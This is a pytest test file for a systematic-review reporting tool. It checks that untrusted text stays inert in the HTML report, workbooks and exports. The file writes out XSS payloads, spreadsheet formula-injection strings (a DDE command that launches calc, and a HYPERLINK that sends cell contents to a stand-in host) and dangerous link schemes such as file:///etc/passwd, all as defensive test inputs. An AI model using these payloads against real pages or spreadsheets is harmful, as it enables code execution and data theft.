"""What a stranger wrote stays text wherever it is shown: in the report, its figures, its workbook and its exports."""

import csv
import io
import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from prismake.exports.cells import FORMULA, keep_text
from prismake.ingest import read_export
from prismake.report import render_page
from prismake.report.analysis_exports import list_metafor, list_revman
from prismake.report.citations import link_doi, safe_link
from prismake.report.exports import write_exports
from prismake.report.interchange import write_prisma
from prismake.report.robvis import list_robvis
from prismake.report.view import open_view
from prismake.report.workbook import write_workbook
from prismake.running.plan import describe_tools
from prismake.sheets import Column, Meta, Page, Workbook, issue_workbook
from reported import build, make_config, make_tables

MARKUP = (
    "<script>document.title='broken'</script>",
    "</title></style></textarea></script><script>document.title='broken'</script>",
    '"><img src=x onerror="document.title=\'broken\'">',
    "' onmouseover='document.title=1' x='",
    "<svg onload=document.title='broken'><foreignObject><body onload=alert(1)>",
    "<a href=\"javascript:document.title='broken'\">x</a>",
    "{{ 7*7 }}{% raw %}",
    "]]><script>document.title='broken'</script>",
    "&lt;script&gt;document.title='broken'&lt;/script&gt;",
)
FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", '=HYPERLINK("http://x/?"&A1,"x")', "=cmd|'/c calc'!A0"),
    *('=WEBSERVICE("http://x/")', "=IMPORTXML(A1)", "{=1+1}", "<r>=1+1</r>", '="a"&"b"'),
)
LINKS = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)", "vbscript:x"),
    *("data:text/html,<script>1</script>", "file:///etc/passwd", "\\\\server\\share", "//server/x", "ms-word:x"),
    *("smb://server/x", "http:///x", "ftp://x/y", "https:javascript:alert(1)", "about:blank", ""),
)
WRITTEN = ("title", "journal", "authors", "url", "doi", "abstract", "keywords", "volume", "pages")
ENUMERATED = {"type", "year", "status", "phase", "bucket", "round", "rounds", "source", "sources", "kind"}


def first(count: int, listed) -> list:
    """All of them, but those behind the first few are left to the slow suite."""
    return [text if at < count else pytest.param(text, marks=pytest.mark.slow) for at, text in enumerate(listed)]


class Reader(HTMLParser):
    """What a browser would find: elements with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def make_hostile(text: str) -> tuple[dict[str, pd.DataFrame], dict]:
    """The tables of a small review in which the text stands wherever a person or an export may write."""
    tables = make_tables()
    for name in ("records", "references"):
        tables[name] = tables[name].assign(**{column: text for column in WRITTEN if column in tables[name]})
    for name, frame in tables.items():
        prose = [column for column in ("note", "quote", "support", "label", "text", "evidence") if column in frame]
        tables[name] = frame.assign(**dict.fromkeys(prose, text))
    config = make_config()
    config["config"] = {**config["config"], "title": text, "authors": [text], "demonstration": text, "living": None}
    config["protocol"] = _spoil(config["protocol"], text)
    config["searches"] = config["searches"].assign(query=text, platform=text)
    config["codebook"] = config["codebook"].assign(label=text, help=text, unit=text)
    config["analyses"] = [{**analysis, "title": text} for analysis in config["analyses"]]
    return build(tables), config


def _spoil(value, text):
    if isinstance(value, dict):
        return {
            key: held if key in ("id", "phase", "date", "applies_to") else _spoil(held, text)
            for key, held in value.items()
        }
    if isinstance(value, list):
        return [_spoil(held, text) for held in value]
    return text if isinstance(value, str) else value


@pytest.mark.parametrize("text", first(1, [" ".join(MARKUP), *MARKUP]))
def test_no_markup_of_anybody_reaches_the_page(text):
    reader, plain = read_page(text), read_page("plain")
    assert {tag for tag, _ in reader.found} <= {tag for tag, _ in plain.found} | {"a"}
    assert [tag for tag, _ in reader.found].count("script") == 1
    for tag, attributes in reader.found:
        assert not any(name.startswith("on") for name in attributes), (tag, attributes)
        address = attributes.get("href") or attributes.get("src") or attributes.get("xlink:href") or "#"
        assert address.startswith(("#", "https://", "http://")), (tag, attributes)


def read_page(text: str) -> Reader:
    tables, config = make_hostile(text)
    reader = Reader()
    reader.feed(render_page(tables, config=config))
    return reader


@pytest.mark.browser
def test_nothing_of_it_runs_in_a_browser(browser, tmp_path):
    tables, config = make_hostile(" ".join(MARKUP))
    config["config"]["title"] = "Review"
    path = tmp_path / "review.html"
    path.write_text(render_page(tables, config=config), encoding="utf-8")
    page = browser.new_context().new_page()
    seen = []
    page.on("request", lambda sent: seen.append(sent.url))
    page.on("dialog", lambda dialog: seen.append(dialog.message))
    page.goto(path.as_uri())
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    assert page.title() == "Review"
    assert seen == [path.as_uri()]
    page.context.close()


@pytest.mark.parametrize("address", LINKS)
def test_an_address_of_another_scheme_is_no_link(address):
    assert safe_link(address) == ""
    assert link_doi(address) == ""


@pytest.mark.parametrize(
    "doi", ['10.1000/x" onclick="a', "10.1000/x'><script>", "10.1000/javascript:a", "10.1000/\u202ex"]
)
def test_a_doi_leads_to_the_resolver_and_nowhere_else(doi):
    link = link_doi(doi)
    assert re.fullmatch(r"(https://doi\.org/10\.1000/[\w%/().;:-]*)?", link, re.ASCII)


# Workbooks


def read_parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist() if name.endswith((".xml", ".rels"))}


@pytest.mark.parametrize("text", first(2, [*FORMULAS, *LINKS[:-1]]))
def test_the_workbook_of_the_report_holds_no_formula_and_links_to_the_web_alone(tmp_path, text):
    tables, config = make_hostile(text)
    write_workbook(tables, tmp_path / "review.xlsx", config=config)
    parts = read_parts(tmp_path / "review.xlsx")
    assert not [name for name, body in parts.items() if re.search(r"<f[\s>]|<ddeLink|<externalBook", body)]
    targets = {
        target for body in parts.values() for target in re.findall(r'Target="([^"]*)" TargetMode="External"', body)
    }
    assert all(target.startswith("https://doi.org/") for target in targets)
    book = openpyxl.load_workbook(tmp_path / "review.xlsx")
    titles = [row[list(next(book["references"].values)).index("Title")] for row in list(book["references"].values)[1:]]
    assert {str(title).strip() for title in titles} == {text.strip()}


@pytest.mark.parametrize("text", [*FORMULAS, *LINKS[:-1]])
def test_a_sheet_holds_no_formula_of_anybody_and_links_to_the_web_alone(tmp_path, text):
    columns = (
        Column("title", "Title", 40, highlight=True),
        Column("link", "Link", 20, link="{}"),
        Column("note", text, 20, fill=True, help=text, choices=(text, "b")),
    )
    page = Page("votes", columns, ({"id": text, "title": text, "link": text, "note": text},), heading=text)
    path = issue_workbook(
        tmp_path / "a.xlsx", Workbook(Meta("screening", "full_text", "anna", "b"), text, (text,), (page,), ("Tea",))
    )
    parts = read_parts(path)
    formulas = [found for body in parts.values() for found in re.findall(r"<f>([^<]*)</f>", body)]
    assert all(found.startswith(('"Done: "', '"')) for found in formulas), formulas
    assert "TargetMode" not in "".join(parts.values())
    cells = [cell for row in openpyxl.load_workbook(path)["votes"].iter_rows(min_row=4) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert [str(cell.value).strip() for cell in cells if cell.value][1:5] == [text.strip()] * 4


# Text files


def test_text_files_begin_no_cell_with_a_formula():
    for text in FORMULAS[:7]:
        assert not keep_text(text).startswith(FORMULA)
        assert keep_text(text).strip() == text.strip()


@pytest.mark.parametrize("text", first(2, FORMULAS))
def test_exports_for_other_programs_hold_no_formula(text):
    tables, config = make_hostile(text)
    studies = tables["studies"].assign(label=text)
    frames = [
        list_metafor(tables["effects"], studies=studies),
        list_revman(tables["effects"], studies=studies, analyses=[{**a, "title": text} for a in config["analyses"]]),
        *list_robvis(tables.get("appraisal"), studies=studies, tools=describe_tools()).values(),
    ]
    cells = [cell for frame in frames for cell in frame.select_dtypes(exclude="number").to_numpy().ravel()]
    written = list(csv.reader(io.StringIO(write_prisma(tables["flow"]))))
    listed = [*(cell for cell in cells if isinstance(cell, str)), *(cell for row in written for cell in row)]
    assert [cell for cell in listed if cell.startswith(FORMULA) and not re.fullmatch(r"-?[\d.e-]+", cell)] == []


@pytest.mark.parametrize(
    "text", first(2, ["=1+1", "Tea\u202eeaT", "@SUM(1)", "-1+1", "+1+1", "<script>x", "=cmd|'/c calc'!A0"])
)
def test_what_is_exported_as_ris_comes_back_as_it_was(tmp_path, text):
    tables, config = make_hostile("Tea")
    tables["references"] = tables["references"].assign(title=text)
    made = write_exports(open_view(tables, config=config))
    for name, content in made.items():
        if name.endswith(".ris") and content.strip():
            (tmp_path / name).write_text(content, encoding="utf-8")
            titles = {entry["title"] for entry in read_export(tmp_path / name, name).entries}
            assert titles == {text}


@pytest.mark.slow
@pytest.mark.office
def test_a_spreadsheet_program_computes_nothing_of_it(tmp_path, office):
    tables, config = make_hostile("=1+1")
    write_workbook(tables, tmp_path / "review.xlsx", config=config)
    office("--convert-to", "ods", "--outdir", tmp_path, tmp_path / "review.xlsx")
    with zipfile.ZipFile(tmp_path / "review.ods") as archive:
        body = archive.read("content.xml").decode()
    assert "table:formula" not in body
    assert ">=1+1<" in body
